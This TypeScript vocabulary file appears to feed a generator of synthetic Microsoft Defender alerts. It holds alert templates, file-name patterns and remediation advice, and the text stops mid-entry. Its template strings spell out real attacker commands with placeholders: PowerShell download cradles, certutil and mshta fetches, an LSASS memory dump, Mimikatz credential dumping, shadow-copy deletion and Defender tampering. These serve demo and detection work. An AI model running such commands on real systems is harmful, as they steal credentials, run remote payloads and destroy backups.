/**
 * Vocabulary for demo alerts: alert templates, attack storylines, names, places, binaries and files.
 *
 * Strings may hold `{{placeholder}}`s that the generator fills per campaign (see `fill` in
 * generate.ts): `{{account}}`, `{{upn}}`, `{{host}}`, `{{fqdn}}`, `{{netbios}}`, `{{domain}}`,
 * `{{org}}`, `{{url}}`, `{{c2url}}`, `{{c2domain}}`, `{{c2ip}}`, `{{downloadUrl}}`, `{{b64}}`,
 * `{{task}}`, `{{regValue}}`, `{{dc}}`, `{{lateral}}`, `{{pid}}`, `{{hex8}}`, `{{clsid}}`,
 * `{{file:ROLE}}` (full path of the campaign's file for ROLE), `{{name:ROLE}}` (its file name), and in
 * titles only `{{family}}` (the threat family).
 * File-name, directory, task-name and subject patterns additionally know `{n1}`…`{n6}` (digits),
 * `{hex6}`, `{hex8}`, `{HEX8}`, `{word}` and `{Word}` (drawn per use).
 */
import type { AlertDetermination, AlertSeverity } from "../schema/enums.js";

export type EvidenceKind = "ip" | "url" | "file" | "process" | "mailbox" | "analyzedMessage" | "registryKey" | "registryValue" | "cloudApplication";

/** Which of the campaign's public IPs an ipEvidence element shows. `internal` is the device's LAN address. */
export type IpSlot = "attacker" | "c2" | "sender" | "home" | "internal";
export type UrlSlot = "phish" | "c2" | "download" | "share";
export type MessageSlot = "inbound" | "outbound";

export interface ProcessSpec {
  image: keyof typeof BINARIES;
  parent: keyof typeof BINARIES;
  /** Command-line variants; one is picked per campaign. */
  cmd: readonly string[];
}

export interface AlertTemplate {
  key: string;
  /** May use `{{family}}` (the threat family). */
  title: string;
  description: string;
  category: string;
  mitreTechniques: readonly string[];
  severity: AlertSeverity;
  serviceSource: string;
  detectionSource: string;
  productName: string;
  recommendedActions: string;
  /** Relative frequency as a stand-alone (single-alert) detection. */
  weight: number;
  /** Determination when an analyst resolves it as a true positive. */
  determination: AlertDetermination;
  /** Evidence kinds besides the campaign's device and user (always present). */
  evidence: readonly EvidenceKind[];
  processes?: readonly ProcessSpec[];
  files?: readonly (keyof typeof FILE_ROLES)[];
  ips?: readonly { slot: IpSlot; roles: readonly string[] }[];
  urls?: readonly UrlSlot[];
  message?: MessageSlot;
  registry?: { hive: string; key: string; valueType?: string };
  cloudApp?: keyof typeof CLOUD_APPS;
  /** [threatDisplayName, threatFamilyName] options for malware detections. */
  threats?: readonly (readonly [string, string])[];
  /** Carries the campaign's actorDisplayName when it has one. */
  actor?: boolean;
  /** Roles of the campaign device and user in this alert. */
  deviceRoles?: readonly string[];
  userRoles?: readonly string[];
  verdict?: "suspicious" | "malicious";
}

// ---------------------------------------------------------------------------------------------
// Binaries and file roles

const WIN = { signer: "Microsoft Windows", issuer: "Microsoft Windows Production PCA 2011", publisher: "Microsoft Corporation" };
const MSC = { signer: "Microsoft Corporation", issuer: "Microsoft Code Signing PCA 2011", publisher: "Microsoft Corporation" };
const SYS32 = "C:\\Windows\\System32";

export interface BinarySpec {
  path: string;
  signer: string;
  issuer: string;
  publisher: string;
  size: readonly [number, number];
}

export const BINARIES = {
  "powershell.exe": { path: `${SYS32}\\WindowsPowerShell\\v1.0`, ...WIN, size: [450_000, 460_000] },
  "cmd.exe": { path: SYS32, ...WIN, size: [289_000, 340_000] },
  "rundll32.exe": { path: SYS32, ...WIN, size: [71_000, 73_000] },
  "certutil.exe": { path: SYS32, ...WIN, size: [1_480_000, 1_530_000] },
  "bitsadmin.exe": { path: SYS32, ...WIN, size: [190_000, 200_000] },
  "schtasks.exe": { path: SYS32, ...WIN, size: [235_000, 240_000] },
  "reg.exe": { path: SYS32, ...WIN, size: [79_000, 82_000] },
  "vssadmin.exe": { path: SYS32, ...WIN, size: [135_000, 140_000] },
  "wmic.exe": { path: `${SYS32}\\wbem`, ...WIN, size: [510_000, 580_000] },
  "net.exe": { path: SYS32, ...WIN, size: [58_000, 60_000] },
  "nltest.exe": { path: SYS32, ...WIN, size: [512_000, 530_000] },
  "whoami.exe": { path: SYS32, ...WIN, size: [72_000, 75_000] },
  "mshta.exe": { path: SYS32, ...WIN, size: [14_000, 15_000] },
  "regsvr32.exe": { path: SYS32, ...WIN, size: [25_000, 26_000] },
  "wscript.exe": { path: SYS32, ...WIN, size: [167_000, 170_000] },
  "bcdedit.exe": { path: SYS32, ...WIN, size: [440_000, 450_000] },
  "dllhost.exe": { path: SYS32, ...WIN, size: [20_000, 22_000] },
  "svchost.exe": { path: SYS32, ...WIN, size: [55_000, 58_000] },
  "services.exe": { path: SYS32, ...WIN, size: [700_000, 720_000] },
  "explorer.exe": { path: "C:\\Windows", ...WIN, size: [5_200_000, 5_600_000] },
  "winword.exe": { path: "C:\\Program Files\\Microsoft Office\\root\\Office16", ...MSC, size: [1_600_000, 2_000_000] },
  "excel.exe": { path: "C:\\Program Files\\Microsoft Office\\root\\Office16", ...MSC, size: [6_000_000, 7_000_000] },
  "outlook.exe": { path: "C:\\Program Files\\Microsoft Office\\root\\Office16", ...MSC, size: [4_000_000, 4_600_000] },
  "msedge.exe": { path: "C:\\Program Files (x86)\\Microsoft\\Edge\\Application", ...MSC, size: [3_900_000, 4_300_000] },
  "PsExec64.exe": {
    path: "C:\\Windows\\Temp",
    signer: "Microsoft Corporation",
    issuer: "Microsoft Code Signing PCA 2010",
    publisher: "Sysinternals - www.sysinternals.com",
    size: [830_000, 840_000],
  },
  "PSEXESVC.exe": {
    path: "C:\\Windows",
    signer: "Microsoft Corporation",
    issuer: "Microsoft Code Signing PCA 2010",
    publisher: "Sysinternals - www.sysinternals.com",
    size: [190_000, 200_000],
  },
} as const satisfies Record<string, BinarySpec>;

export interface FileRole {
  names: readonly string[];
  /** Directories; empty string = no path (e.g. an email attachment). */
  dirs: readonly string[];
  size: readonly [number, number];
  /** Signed third-party files; unsigned when absent. */
  signer?: { signer: string; issuer: string; publisher: string };
  detectionStatus: "detected" | "blocked" | "prevented";
}

export const FILE_ROLES = {
  maldoc: {
    names: ["Invoice_{n4}.docm", "Remittance_Advice_{n4}.xlsm", "Payroll_Update_{n4}.docm", "Scan_{n6}.doc", "PO-{n6}.xlsm", "Contract_Draft_{Word}.docm"],
    dirs: ["C:\\Users\\{{account}}\\Downloads", "C:\\Users\\{{account}}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{HEX8}"],
    size: [38_000, 420_000],
    detectionStatus: "detected",
  },
  attachment: {
    names: ["Invoice_{n4}.zip", "Document_{n6}.iso", "Statement_{n4}.html", "Fax_Message_{n4}.htm", "Voicemail_{n4}.svg", "Remittance_{n6}.img"],
    dirs: [""],
    size: [3_000, 2_400_000],
    detectionStatus: "blocked",
  },
  script: {
    names: ["update.ps1", "install_{n3}.ps1", "{word}.vbs", "run_{n2}.bat", "setup.hta", "{word}_{n4}.js"],
    dirs: ["C:\\Users\\{{account}}\\AppData\\Local\\Temp", "C:\\ProgramData\\{Word}", "C:\\Users\\Public\\Documents"],
    size: [600, 48_000],
    detectionStatus: "detected",
  },
  beacon: {
    names: ["{word}.dll", "msupdate{n2}.exe", "vmtools.dll", "OneDriveUpdater_{n3}.exe", "{word}svc.exe", "wininet{n2}.dll"],
    dirs: ["C:\\ProgramData\\{Word}", "C:\\Users\\{{account}}\\AppData\\Roaming\\{Word}", "C:\\Windows\\Temp", "C:\\Users\\Public\\Libraries"],
    size: [260_000, 1_100_000],
    detectionStatus: "detected",
  },
  commodity: {
    names: ["{hex8}.dll", "{n6}.exe", "sysupd{n2}.exe", "zmtr{n2}.dll", "{Word}Helper.exe", "tmp{hex6}.exe"],
    dirs: ["C:\\Users\\{{account}}\\AppData\\Local\\Temp", "C:\\Users\\{{account}}\\AppData\\Roaming\\{Word}", "C:\\ProgramData"],
    size: [90_000, 900_000],
    detectionStatus: "prevented",
  },
  pua: {
    names: ["SetupWizard_{n4}.exe", "PDFConverterFree_{n3}.exe", "DriverBooster_Setup.exe", "SearchBarInstaller_{n2}.exe", "FreeVPN_{n4}.msi"],
    dirs: ["C:\\Users\\{{account}}\\Downloads", "C:\\Users\\{{account}}\\AppData\\Local\\Temp"],
    size: [1_200_000, 48_000_000],
    signer: { signer: "Pleasant Software Ltd", issuer: "Sectigo Public Code Signing CA R36", publisher: "Pleasant Software Ltd" },
    detectionStatus: "blocked",
  },
  mimikatz: {
    names: ["mimikatz.exe", "mm64.exe", "m.exe", "lsa{n2}.exe", "kiwi.exe"],
    dirs: ["C:\\Users\\Public", "C:\\Windows\\Temp", "C:\\PerfLogs", "C:\\Users\\{{account}}\\AppData\\Local\\Temp"],
    size: [1_250_000, 1_360_000],
    detectionStatus: "detected",
  },
  dump: {
    names: ["lsass.dmp", "debug{n3}.bin", "out.dmp", "{hex6}.tmp", "mem{n2}.log"],
    dirs: ["C:\\Windows\\Temp", "C:\\Users\\Public", "C:\\ProgramData"],
    size: [40_000_000, 90_000_000],
    detectionStatus: "detected",
  },
  ransomware: {
    names: ["{hex8}.exe", "locker.exe", "svc{n3}.exe", "enc.exe", "{word}.exe"],
    dirs: ["C:\\Windows\\Temp", "C:\\ProgramData", "C:\\Users\\Public\\Music", "\\\\{{dc}}\\NETLOGON"],
    size: [180_000, 3_400_000],
    detectionStatus: "detected",
  },
  ransomNote: {
    names: ["README_TO_RESTORE.txt", "HOW_TO_DECRYPT.html", "!!!_READ_ME_{n4}_!!!.txt", "RESTORE-MY-FILES.TXT", "{hex6}-readme.txt"],
    dirs: ["C:\\Users\\{{account}}\\Documents", "C:\\Users\\{{account}}\\Desktop", "C:\\"],
    size: [1_100, 9_000],
    detectionStatus: "detected",
  },
  sensitiveDoc: {
    names: [
      "Q{n1}_Financials_{n4}.xlsx",
      "Customer_List_{n4}.csv",
      "Employee_Salaries_{n2}.xlsx",
      "Project_{Word}_Acquisition.docx",
      "Passport_Scans_{n3}.pdf",
      "Cardholder_Export_{n6}.csv",
    ],
    dirs: ["C:\\Users\\{{account}}\\Documents", "C:\\Users\\{{account}}\\OneDrive - {{org}}\\Documents", "E:\\"],
    size: [24_000, 12_000_000],
    detectionStatus: "detected",
  },
} as const satisfies Record<string, FileRole>;

// ---------------------------------------------------------------------------------------------
// Cloud apps (Defender for Cloud Apps catalog ids). Shared by all tenants' campaigns: not an identity.

export const CLOUD_APPS = {
  office365: { appId: 11161, displayName: "Office 365" },
  exchange: { appId: 20893, displayName: "Microsoft Exchange Online" },
  sharepoint: { appId: 20892, displayName: "Microsoft SharePoint Online" },
  onedrive: { appId: 15600, displayName: "Microsoft OneDrive for Business" },
  azurePortal: { appId: 12260, displayName: "Microsoft Azure" },
} as const;

// ---------------------------------------------------------------------------------------------
// Products

const MDE = { serviceSource: "microsoftDefenderForEndpoint", detectionSource: "microsoftDefenderForEndpoint", productName: "Microsoft Defender for Endpoint" };
const MDAV = { serviceSource: "microsoftDefenderForEndpoint", detectionSource: "antivirus", productName: "Microsoft Defender for Endpoint" };
const MDI = { serviceSource: "microsoftDefenderForIdentity", detectionSource: "microsoftDefenderForIdentity", productName: "Microsoft Defender for Identity" };
const MDO = {
  serviceSource: "microsoftDefenderForOffice365",
  detectionSource: "microsoftDefenderForOffice365",
  productName: "Microsoft Defender for Office 365",
};
const MDA = { serviceSource: "microsoftDefenderForCloudApps", detectionSource: "cloudAppSecurity", productName: "Microsoft Defender for Cloud Apps" };
const AADIP = { serviceSource: "azureAdIdentityProtection", detectionSource: "azureAdIdentityProtection", productName: "Microsoft Entra ID Protection" };
const DLP = { serviceSource: "dataLossPrevention", detectionSource: "microsoftDataLossPrevention", productName: "Microsoft Purview Data Loss Prevention" };

const ISOLATE = "Isolate the device from the network to contain the threat.";
const INVESTIGATE_DEVICE = "Review the device timeline for other suspicious activity around the time of the alert.";
const RESET_PW = "Reset the user's password and revoke active sessions and refresh tokens.";

// ---------------------------------------------------------------------------------------------
// Alert templates

export const TEMPLATES: readonly AlertTemplate[] = [
  // ---- Defender for Endpoint --------------------------------------------------------------
  {
    key: "mde.powershellEncoded",
    ...MDE,
    title: "Suspicious PowerShell command line",
    description:
      "A suspicious PowerShell command line was observed. The command uses an encoded payload and flags that hide the window and bypass the execution policy, a technique attackers use to run code directly in memory.",
    category: "Execution",
    mitreTechniques: ["T1059.001", "T1027"],
    severity: "medium",
    weight: 9,
    determination: "malware",
    evidence: ["process", "url"],
    urls: ["c2"],
    processes: [
      {
        image: "powershell.exe",
        parent: "cmd.exe",
        cmd: ["powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc {{b64}}", '"powershell.exe" -nop -w hidden -encodedcommand {{b64}}'],
      },
    ],
    recommendedActions: `1. Examine the decoded command line and the process tree.\n2. ${INVESTIGATE_DEVICE}\n3. Block the contacted URL if it is malicious.`,
  },
  {
    key: "mde.powershellDownload",
    ...MDE,
    title: "Suspicious process executed PowerShell command",
    description: "A process started PowerShell with a command that downloads and runs content from the internet (a 'download cradle').",
    category: "Execution",
    mitreTechniques: ["T1059.001", "T1105"],
    severity: "medium",
    weight: 7,
    determination: "malware",
    evidence: ["process", "url", "file"],
    urls: ["download"],
    files: ["script"],
    processes: [
      {
        image: "powershell.exe",
        parent: "explorer.exe",
        cmd: [
          "powershell.exe -nop -w hidden -c \"IEX ((New-Object Net.WebClient).DownloadString('{{downloadUrl}}'))\"",
          "powershell.exe -ExecutionPolicy Bypass -c \"iwr '{{downloadUrl}}' -OutFile '{{file:script}}'; & '{{file:script}}'\"",
        ],
      },
    ],
    recommendedActions: `Review the downloaded content and the URL's reputation. ${INVESTIGATE_DEVICE}`,
  },
  {
    key: "mde.lsassAccess",
    ...MDE,
    title: "Suspicious access to LSASS service",
    description:
      "A process accessed the memory of the Local Security Authority Subsystem Service (LSASS), which holds credentials of logged-on users. Attackers dump LSASS memory to harvest passwords and hashes.",
    category: "CredentialAccess",
    mitreTechniques: ["T1003.001"],
    severity: "high",
    weight: 3,
    determination: "multiStagedAttack",
    actor: true,
    evidence: ["process", "file"],
    files: ["dump"],
    processes: [
      {
        image: "rundll32.exe",
        parent: "cmd.exe",
        cmd: [
          "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {{pid}} {{file:dump}} full",
          '"rundll32.exe" comsvcs.dll #24 {{pid}} {{file:dump}} full',
        ],
      },
    ],
    deviceRoles: ["compromised"],
    userRoles: ["compromised"],
    verdict: "malicious",
    recommendedActions: `${ISOLATE}\n${RESET_PW}\nCheck for use of the harvested credentials on other devices.`,
  },
  {
    key: "mde.mimikatz",
    ...MDAV,
    title: "'Mimikatz' credential theft tool",
    description:
      "The credential theft tool Mimikatz was detected on the device. Mimikatz extracts plaintext passwords, hashes and Kerberos tickets from memory.",
    category: "CredentialAccess",
    mitreTechniques: ["T1003.001", "T1558"],
    severity: "high",
    weight: 2,
    determination: "malware",
    actor: true,
    evidence: ["file", "process"],
    files: ["mimikatz"],
    threats: [
      ["HackTool:Win32/Mimikatz.D", "Mimikatz"],
      ["HackTool:Win64/Mikatz!dha", "Mimikatz"],
    ],
    processes: [
      {
        image: "cmd.exe",
        parent: "explorer.exe",
        cmd: ['"{{file:mimikatz}}" "privilege::debug" "sekurlsa::logonpasswords" exit', '"{{file:mimikatz}}" "lsadump::sam" "exit"'],
      },
    ],
    deviceRoles: ["compromised"],
    userRoles: ["compromised"],
    verdict: "malicious",
    recommendedActions: `${ISOLATE}\n${RESET_PW}\nRun a full antivirus scan.`,
  },
  {
    key: "mde.ransomwareBehavior",
    ...MDE,
    title: "Ransomware behavior detected in the file system",
    description: "A process encrypted or renamed a large number of files and dropped ransom notes, which is typical ransomware behavior.",
    category: "Ransomware",
    mitreTechniques: ["T1486"],
    severity: "high",
    weight: 1,
    determination: "malware",
    actor: true,
    evidence: ["process", "file", "file"],
    files: ["ransomware", "ransomNote"],
    threats: [
      ["Ransom:Win32/LockBit.AA", "LockBit"],
      ["Ransom:Win64/BlackCat.MA!MTB", "BlackCat"],
      ["Ransom:Win32/Akira.A", "Akira"],
      ["Ransom:Win64/Royal.A", "Royal"],
      ["Ransom:Win32/Babuk.SIB!MTB", "Babuk"],
    ],
    processes: [
      {
        image: "cmd.exe",
        parent: "services.exe",
        cmd: ['"{{file:ransomware}}" -path C:\\ -enc -nolog', '"{{file:ransomware}}" --access-token {{hex8}} --no-prop-servers'],
      },
    ],
    deviceRoles: ["compromised"],
    userRoles: ["compromised"],
    verdict: "malicious",
    recommendedActions: `${ISOLATE}\nIdentify the entry point and other affected devices. Do not pay the ransom; restore from offline backups.`,
  },
  {
    key: "mde.backupsDeleted",
    ...MDE,
    title: "File backups were deleted",
    description: "Volume shadow copies or backup catalogs were deleted. Ransomware deletes backups before encrypting files to prevent recovery.",
    category: "Impact",
    mitreTechniques: ["T1490"],
    severity: "high",
    weight: 1,
    determination: "malware",
    actor: true,
    evidence: ["process"],
    processes: [
      {
        image: "vssadmin.exe",
        parent: "cmd.exe",
        cmd: ["vssadmin.exe delete shadows /all /quiet", "wmic.exe shadowcopy delete /nointeractive", "bcdedit.exe /set {default} recoveryenabled no"],
      },
    ],
    deviceRoles: ["compromised"],
    verdict: "malicious",
    recommendedActions: `${ISOLATE}\nVerify the integrity of backups.`,
  },
  {
    key: "mde.cobaltStrike",
    ...MDE,
    title: "Cobalt Strike command and control detected",
    description:
      "A process communicated with infrastructure associated with a Cobalt Strike team server. Cobalt Strike beacons give an attacker remote, hands-on-keyboard control.",
    category: "CommandAndControl",
    mitreTechniques: ["T1071.001", "T1573.002"],
    severity: "high",
    weight: 2,
    determination: "multiStagedAttack",
    actor: true,
    evidence: ["process", "file", "ip", "url"],
    files: ["beacon"],
    ips: [{ slot: "c2", roles: ["commandAndControl"] }],
    urls: ["c2"],
    threats: [
      ["Backdoor:Win64/CobaltStrike.NP!dha", "CobaltStrike"],
      ["Behavior:Win32/CobaltStrike.B!sms", "CobaltStrike"],
    ],
    processes: [
      { image: "rundll32.exe", parent: "explorer.exe", cmd: ['rundll32.exe "{{file:beacon}}",StartW', 'rundll32.exe "{{file:beacon}}",DllRegisterServer'] },
    ],
    deviceRoles: ["compromised"],
    verdict: "malicious",
    recommendedActions: `${ISOLATE}\nBlock the command-and-control IP and domain at the perimeter. ${INVESTIGATE_DEVICE}`,
  },
  {
    key: "mde.processInjection",
    ...MDE,
    title: "Suspicious process injection observed",
    description: "A process injected code into another process. Attackers inject into legitimate processes to hide malicious activity.",
    category: "DefenseEvasion",
    mitreTechniques: ["T1055", "T1055.012"],
    severity: "medium",
    weight: 3,
    determination: "malware",
    actor: true,
    evidence: ["process", "process", "file"],
    processes: [
      { image: "rundll32.exe", parent: "explorer.exe", cmd: ['rundll32.exe "{{file:beacon}}",StartW'] },
      { image: "dllhost.exe", parent: "rundll32.exe", cmd: ["C:\\Windows\\System32\\dllhost.exe /Processid:{{clsid}}", "C:\\Windows\\System32\\dllhost.exe"] },
    ],
    files: ["beacon"],
    recommendedActions: `Examine the injecting and target processes. ${INVESTIGATE_DEVICE}`,
  },
  {
    key: "mde.scheduledTask",
    ...MDE,
    title: "Suspicious Scheduled Task",
    description: "A scheduled task was created that runs a script or binary from a user-writable location, a common persistence technique.",
    category: "Persistence",
    mitreTechniques: ["T1053.005"],
    severity: "medium",
    weight: 6,
    determination: "malware",
    evidence: ["process", "file", "registryKey"],
    files: ["script"],
    registry: { hive: "HKEY_LOCAL_MACHINE", key: "SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\{{task}}" },
    processes: [
      {
        image: "schtasks.exe",
        parent: "cmd.exe",
        cmd: [
          'schtasks.exe /create /sc minute /mo 30 /tn "{{task}}" /tr "{{file:script}}" /ru SYSTEM /f',
          'schtasks.exe /Create /F /SC ONLOGON /TN "{{task}}" /TR "wscript.exe //B \'{{file:script}}\'"',
        ],
      },
    ],
    recommendedActions: `Review and delete the scheduled task if it is not legitimate. ${INVESTIGATE_DEVICE}`,
  },
  {
    key: "mde.asepRegistry",
    ...MDE,
    title: "Anomaly detected in ASEP registry",
    description: "A process registered an auto-start extensibility point (Run key) that launches a file from an unusual location at every logon.",
    category: "Persistence",
    mitreTechniques: ["T1547.001"],
    severity: "medium",
    weight: 5,
    determination: "malware",
    evidence: ["process", "registryKey", "registryValue", "file"],
    files: ["commodity"],
    registry: { hive: "HKEY_CURRENT_USER", key: "Software\\Microsoft\\Windows\\CurrentVersion\\Run", valueType: "String" },
    processes: [
      {
        image: "reg.exe",
        parent: "cmd.exe",
        cmd: ['reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {{regValue}} /t REG_SZ /d "{{file:commodity}}" /f'],
      },
    ],
    recommendedActions: "Remove the registry value if it is not legitimate and quarantine the referenced file.",
  },
  {
    key: "mde.lolbinDownload",
    ...MDE,
    title: "Suspicious file download using a living-off-the-land binary",
    description:
      "A built-in Windows utility (certutil or bitsadmin) downloaded a file from the internet. Attackers abuse these signed binaries to evade controls.",
    category: "DefenseEvasion",
    mitreTechniques: ["T1105", "T1218"],
    severity: "medium",
    weight: 6,
    determination: "malware",
    evidence: ["process", "url", "file"],
    urls: ["download"],
    files: ["commodity"],
    processes: [
      {
        image: "certutil.exe",
        parent: "cmd.exe",
        cmd: ['certutil.exe -urlcache -split -f {{downloadUrl}} "{{file:commodity}}"', 'certutil.exe -urlcache -f {{downloadUrl}} "{{file:commodity}}"'],
      },
    ],
    recommendedActions: `Block the URL and quarantine the downloaded file. ${INVESTIGATE_DEVICE}`,
  },
  {
    key: "mde.officeChild",
    ...MDE,
    title: "An Office application ran suspicious commands",
    description: "An Office application spawned a command interpreter, which usually means a malicious macro in a document.",
    category: "Execution",
    mitreTechniques: ["T1204.002", "T1059.003", "T1566.001"],
    severity: "medium",
    weight: 5,
    determination: "malware",
    evidence: ["process", "file", "url"],
    files: ["maldoc"],
    urls: ["download"],
    processes: [
      {
        image: "cmd.exe",
        parent: "winword.exe",
        cmd: [
          'cmd.exe /c powershell -w hidden -c "iwr {{downloadUrl}} -o $env:TEMP\\{{name:commodity}}; start $env:TEMP\\{{name:commodity}}"',
          "cmd.exe /c mshta.exe {{downloadUrl}}",
        ],
      },
    ],
    recommendedActions:
      "Quarantine the document and check whether other recipients opened it. Enable the attack surface reduction rule that blocks Office child processes.",
  },
  {
    key: "mde.defenderTamper",
    ...MDE,
    title: "Attempt to turn off Microsoft Defender Antivirus protection",
    description: "A process attempted to disable real-time protection or other Microsoft Defender Antivirus features.",
    category: "DefenseEvasion",
    mitreTechniques: ["T1562.001"],
    severity: "medium",
    weight: 3,
    determination: "malware",
    actor: true,
    evidence: ["process", "registryKey"],
    registry: { hive: "HKEY_LOCAL_MACHINE", key: "SOFTWARE\\Policies\\Microsoft\\Windows Defender" },
    processes: [
      {
        image: "powershell.exe",
        parent: "cmd.exe",
        cmd: [
          "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true",
          'reg.exe add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f',
        ],
      },
    ],
    recommendedActions: "Turn on tamper protection. Verify Defender settings on the device and investigate the initiating process.",
  },
  {
    key: "mde.discovery",
    ...MDE,
    title: "Suspicious sequence of exploration activities",
    description: "A process ran a sequence of reconnaissance commands (account, group and domain-trust discovery) that attackers use to map the environment.",
    category: "Discovery",
    mitreTechniques: ["T1087.002", "T1069.002", "T1482"],
    severity: "low",
    weight: 10,
    determination: "multiStagedAttack",
    evidence: ["process", "process"],
    processes: [
      {
        image: "net.exe",
        parent: "cmd.exe",
        cmd: ['net.exe group "Domain Admins" /domain', "net.exe user {{account}} /domain", 'net.exe group "Enterprise Admins" /domain'],
      },
      { image: "nltest.exe", parent: "cmd.exe", cmd: ["nltest.exe /dclist:{{domain}}", "nltest.exe /domain_trusts /all_trusts", "whoami.exe /all"] },
    ],
    recommendedActions: INVESTIGATE_DEVICE,
  },
  {
    key: "mde.psexec",
    ...MDE,
    title: "PsExec launched a command on a remote device",
    description: "PsExec was used to run a command on another device. Attackers use PsExec for lateral movement with stolen credentials.",
    category: "LateralMovement",
    mitreTechniques: ["T1021.002", "T1569.002"],
    severity: "medium",
    weight: 3,
    determination: "multiStagedAttack",
    actor: true,
    evidence: ["process", "file"],
    files: ["beacon"],
    processes: [
      {
        image: "PsExec64.exe",
        parent: "cmd.exe",
        cmd: [
          'PsExec64.exe \\\\{{lateral}} -accepteula -s -d cmd.exe /c "{{file:beacon}}"',
          "PsExec64.exe \\\\{{lateral}} -u {{netbios}}\\{{account}} -accepteula -s cmd.exe",
        ],
      },
    ],
    recommendedActions: `Verify whether the remote execution was authorized. ${INVESTIGATE_DEVICE}`,
  },
  {
    key: "mde.puaDetected",
    ...MDAV,
    title: "'{{family}}' unwanted software was detected",
    description: "Potentially unwanted software was detected. Such software can degrade performance, show ads or bundle other programs.",
    category: "UnwantedSoftware",
    mitreTechniques: [],
    severity: "low",
    weight: 14,
    determination: "unwantedSoftware",
    evidence: ["file"],
    files: ["pua"],
    threats: [
      ["PUA:Win32/Presenoker", "Presenoker"],
      ["PUA:Win32/Softcnapp", "Softcnapp"],
      ["PUADlManager:Win32/DownloadSponsor", "DownloadSponsor"],
      ["PUA:Win32/Caypnamer.A!ml", "Caypnamer"],
    ],
    recommendedActions: "Remove the software and review application control policies.",
  },
  {
    key: "mde.malwarePrevented",
    ...MDAV,
    title: "'{{family}}' malware was prevented",
    description: "Malware was detected and prevented from running by Microsoft Defender Antivirus.",
    category: "Malware",
    mitreTechniques: [],
    severity: "informational",
    weight: 16,
    determination: "malware",
    evidence: ["file"],
    files: ["commodity"],
    threats: [
      ["Trojan:Win32/Emotet.RPB!MTB", "Emotet"],
      ["Trojan:Win32/Qakbot.RPX!MTB", "Qakbot"],
      ["Trojan:Win32/AgentTesla!ml", "AgentTesla"],
      ["Trojan:Win32/Formbook.RPY!MTB", "Formbook"],
      ["TrojanDownloader:Win32/IcedID.SIB!MTB", "IcedID"],
    ],
    verdict: "malicious",
    recommendedActions: "No action is required; the threat was prevented. Run a full scan to confirm the device is clean.",
  },
  {
    key: "mde.malwareDetected",
    ...MDAV,
    title: "'{{family}}' malware was detected",
    description: "Malware was detected on the device and may have run before it was stopped.",
    category: "Malware",
    mitreTechniques: ["T1204.002"],
    severity: "medium",
    weight: 6,
    determination: "malware",
    evidence: ["file", "process"],
    files: ["commodity"],
    threats: [
      ["Trojan:Win32/Qakbot.RPX!MTB", "Qakbot"],
      ["Backdoor:Win32/Bladabindi!ml", "Bladabindi"],
      ["Trojan:Win32/Lumma.AB!MTB", "Lumma"],
      ["TrojanSpy:Win32/RedLine.RPV!MTB", "RedLine"],
    ],
    processes: [{ image: "rundll32.exe", parent: "explorer.exe", cmd: ['rundll32.exe "{{file:commodity}}",#1', 'regsvr32.exe /s "{{file:commodity}}"'] }],
    verdict: "malicious",
    recommendedActions: `Run a full antivirus scan. ${INVESTIGATE_DEVICE}`,
  },
  {
    key: "mde.customNetworkIndicator",
    ...MDE,
    detectionSource: "customTi",
    title: "Connection to a custom network indicator",
    description: "A device connected to an IP address or URL that your organization added as a custom indicator.",
    category: "CommandAndControl",
    mitreTechniques: ["T1071"],
    severity: "low",
    weight: 5,
    determination: "other",
    evidence: ["ip", "url", "process"],
    ips: [{ slot: "c2", roles: ["destination"] }],
    urls: ["c2"],
    processes: [{ image: "msedge.exe", parent: "explorer.exe", cmd: ['"msedge.exe" --single-argument {{c2url}}'] }],
    recommendedActions: "Review the indicator and the process that made the connection.",
  },

  // ---- Defender for Identity ----------------------------------------------------------------
  {
    key: "mdi.passTheHash",
    ...MDI,
    title: "Suspected identity theft (pass-the-hash)",
    description: "An account's NTLM hash was used from a device where the account had not logged on, indicating a pass-the-hash attack.",
    category: "LateralMovement",
    mitreTechniques: ["T1550.002"],
    severity: "high",
    weight: 2,
    determination: "compromisedAccount",
    actor: true,
    evidence: ["ip"],
    ips: [{ slot: "internal", roles: ["source"] }],
    deviceRoles: ["compromised"],
    userRoles: ["compromised"],
    verdict: "malicious",
    recommendedActions: `${RESET_PW}\nInvestigate the source device for credential-theft tools.`,
  },
  {
    key: "mdi.kerberoasting",
    ...MDI,
    title: "Suspected Kerberos SPN exposure",
    description:
      "Service tickets for several service principal names were requested by one account, consistent with Kerberoasting to crack service-account passwords offline.",
    category: "CredentialAccess",
    mitreTechniques: ["T1558.003"],
    severity: "high",
    weight: 2,
    determination: "compromisedAccount",
    actor: true,
    evidence: ["ip"],
    ips: [{ slot: "internal", roles: ["source"] }],
    userRoles: ["compromised"],
    recommendedActions: "Rotate the passwords of exposed service accounts and use long, random passwords or gMSAs.",
  },
  {
    key: "mdi.goldenTicket",
    ...MDI,
    title: "Suspected Golden Ticket usage (encryption downgrade)",
    description: "A Kerberos ticket-granting ticket with a downgraded encryption type was used, which may indicate a forged (golden) ticket.",
    category: "CredentialAccess",
    mitreTechniques: ["T1558.001"],
    severity: "high",
    weight: 1,
    determination: "multiStagedAttack",
    actor: true,
    evidence: ["ip"],
    ips: [{ slot: "internal", roles: ["source"] }],
    deviceRoles: ["compromised"],
    verdict: "malicious",
    recommendedActions: "Reset the KRBTGT account password twice and investigate domain controller compromise.",
  },
  {
    key: "mdi.ldapRecon",
    ...MDI,
    title: "Security principal reconnaissance (LDAP)",
    description: "Suspicious LDAP queries enumerated users, groups and privileged accounts in Active Directory.",
    category: "Discovery",
    mitreTechniques: ["T1087.002", "T1069.002"],
    severity: "medium",
    weight: 5,
    determination: "multiStagedAttack",
    evidence: ["ip"],
    ips: [{ slot: "internal", roles: ["source"] }],
    recommendedActions: "Check which process on the source device sent the queries and whether it is an approved tool.",
  },
  {
    key: "mdi.bruteForce",
    ...MDI,
    title: "Suspected brute-force attack (Kerberos, NTLM)",
    description: "Many failed authentication attempts were made against the account from one device.",
    category: "CredentialAccess",
    mitreTechniques: ["T1110.001", "T1110.003"],
